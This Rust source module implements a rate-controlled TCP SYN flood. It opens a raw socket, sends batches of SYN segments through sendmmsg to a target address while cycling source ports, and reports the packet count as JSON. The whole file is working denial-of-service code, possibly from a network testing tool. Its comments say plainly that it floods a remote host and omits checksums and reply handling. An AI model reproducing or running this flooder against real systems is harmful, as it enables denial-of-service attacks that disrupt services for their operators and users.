//! Segments that ask for a connection, from ever other ports: a SYN flood.
//!
//! In: where to, pace, time. Out: TCP segments through a raw socket, a batch with each system call, and one JSON line `flooded`
//! at the end. Needs `CAP_NET_RAW`. Deliberately absent: checksums, which nobody on the way looks at, and answers.

use std::io::IoSlice;
use std::net::SocketAddrV4;
use std::os::fd::{AsRawFd, OwnedFd};
use std::time::{Duration, Instant};

use nix::errno::Errno;
use nix::sys::socket::{
    AddressFamily, MsgFlags, MultiHeaders, SockFlag, SockProtocol, SockType, SockaddrIn, sendmmsg, socket,
};
use serde_json::json;

use super::flood::due;
use super::lines;
use crate::packet::{SYN, tcp};

/// Segments handed over with one call, at most.
const MAX_BATCH: u64 = 64;
/// Between two looks at the pace.
const PAUSE: Duration = Duration::from_micros(250);
/// The first of the ports that take turns; the last one is 65,535.
const FIRST_PORT: u16 = 1_024;

/// Sends segments as fast as told.
#[derive(Debug, Clone, clap::Args)]
pub struct SynArgs {
    /// Where to send, ADDR:PORT, IPv4.
    #[arg(long)]
    pub remote: SocketAddrV4,
    /// Segments a second.
    #[arg(long, value_parser = clap::value_parser!(u64).range(1..))]
    pub rate: u64,
    /// How long.
    #[arg(long, default_value_t = 1_000)]
    pub millis: u64,
}

/// Sends and tells.
///
/// # Errors
/// When no raw socket is to be had, or the kernel refuses to send.
pub fn run(args: &SynArgs) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
    let raw = socket(
        AddressFamily::Inet,
        SockType::Raw,
        SockFlag::SOCK_CLOEXEC,
        SockProtocol::Tcp,
    )?;
    let begin = Instant::now();
    let end = begin + Duration::from_millis(args.millis);
    let (mut packets, mut port) = (0, FIRST_PORT);
    while Instant::now() < end {
        let due = due(args.rate, begin.elapsed())
            .saturating_sub(packets)
            .min(MAX_BATCH);
        if due > 0 {
            packets += send(&raw, args.remote, &mut port, usize::try_from(due)?)?;
        }
        if due < MAX_BATCH {
            std::thread::sleep(PAUSE);
        }
    }
    lines::print(&json!({"event": "flooded", "packets": packets, "millis": args.millis}))?;
    Ok(())
}

/// Sends `count` segments from the next ports; returns how many the kernel took.
fn send(raw: &OwnedFd, remote: SocketAddrV4, port: &mut u16, count: usize) -> nix::Result<u64> {
    let mut next = || {
        *port = port.checked_add(1).unwrap_or(FIRST_PORT);
        tcp(*port, remote.port(), SYN, &[])
    };
    let segments: Vec<Vec<u8>> = (0..count).map(|_| next()).collect();
    let slices: Vec<[IoSlice<'_>; 1]> = segments.iter().map(|segment| [IoSlice::new(segment)]).collect();
    let mut headers = MultiHeaders::<SockaddrIn>::preallocate(count, None);
    let addresses = vec![Some(SockaddrIn::from(remote)); count];
    let sent = sendmmsg(
        raw.as_raw_fd(),
        &mut headers,
        &slices,
        &addresses,
        [],
        MsgFlags::empty(),
    );
    match sent {
        Ok(results) => Ok(u64::try_from(results.count()).unwrap_or_default()),
        Err(Errno::ENOBUFS | Errno::EAGAIN | Errno::EINTR | Errno::EPERM) => Ok(0),
        Err(errno) => Err(errno),
    }
}
